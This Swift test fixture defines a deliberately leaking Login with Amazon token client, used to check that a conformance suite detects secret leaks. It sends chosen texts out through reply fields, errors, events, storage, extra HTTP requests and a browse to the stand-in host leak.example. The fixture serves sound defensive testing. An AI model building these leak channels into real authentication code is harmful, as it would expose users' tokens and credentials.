import AuthProviding
import ConformanceCore
import HTTPTypes
import LoginWithAmazonClients
import LoginWithAmazonProtocols
import SpecModel

/// A place where a client can leak a text.
enum LeakPlace: CaseIterable, Sendable {
  case reply, failure, unmapped, event, url, store, request
}

/// The reference client of the token endpoint, which also leaks texts in one place.
struct LeakingClient: AuthProvider {
  static let statement = ReferenceTokenClient.statement

  let world: World
  let place: LeakPlace
  /// Returns the texts to leak for a call and its ending.
  let texts: @Sendable (Call, Completion.Ending) -> [String]

  init(world: World) {
    self.init(world: world, place: .reply) { _, _ in [] }
  }

  init(
    world: World, place: LeakPlace, texts: @escaping @Sendable (Call, Completion.Ending) -> [String]
  ) {
    self.world = world
    self.place = place
    self.texts = texts
  }

  static func roster(
    _ place: LeakPlace, texts: @escaping @Sendable (Call, Completion.Ending) -> [String]
  ) -> ClientRoster {
    let statement = ConformanceStatement(
      name: "Leaking client", version: "1", specifications: ["lwa-token"],
      capabilities: ReferenceTokenClient.statement.capabilities)
    return ClientRoster(
      ClientUnderTest(statement: statement) { LeakingClient(world: $0, place: place, texts: texts) })
  }

  func perform(_ call: Call, completion: Completion) async {
    let (endings, sink) = AsyncStream.makeStream(of: Completion.Ending.self)
    await ReferenceTokenClient(world: world).perform(call, completion: Completion { sink.yield($0) })
    sink.finish()
    for await ending in endings { await leak(texts(call, ending), of: ending, to: completion) }
  }

  private func leak(_ texts: [String], of ending: Completion.Ending, to completion: Completion) async {
    switch (place, ending) {
    case (.reply, .reply(var fields)):
      fields["accessToken"] = .list(texts.map(Value.string))
      for (number, text) in texts.enumerated() { fields["leaked\(number)"] = .string(text) }
      return completion.reply(fields)
    case (.failure, _):
      let details = Dictionary(texts.map { ($0, Value.string($0)) }) { first, _ in first }
      return completion.fail(
        AuthFailure(code: "invalid_grant", message: texts.joined(separator: "\n"), details: details))
    case (.unmapped, _): return completion.fail(AuthFailure(unmapped: LeakError(texts: texts)))
    case (.event, _): for text in texts { world.events.emit(text, .map(["leaked": .string(text)])) }
    case (.url, _):
      for text in texts { _ = await world.customer.browse(to: "https://leak.example/\(text)?leaked=\(text)") }
    case (.store, _): for text in texts { try? world.store.write(text, Array(text.utf8)) }
    case (.request, _): for text in texts { await send(text) }
    case (.reply, _): break
    }
    completion(ending)
  }

  private func send(_ text: String) async {
    var head = HTTPRequest(
      method: .post, scheme: "https", authority: "api.amazon.com", path: "/leaked/\(text)?leaked=\(text)")
    if let name = HTTPField.Name("x-leaked") { head.headerFields[name] = text }
    // The bytes after the text are not UTF-8.
    _ = try? await world.network.send(Request(head: head, body: Array(text.utf8) + [0, 0xFF, 0xC0, 0xAF]))
  }
}

private struct LeakError: Error {
  let texts: [String]
}
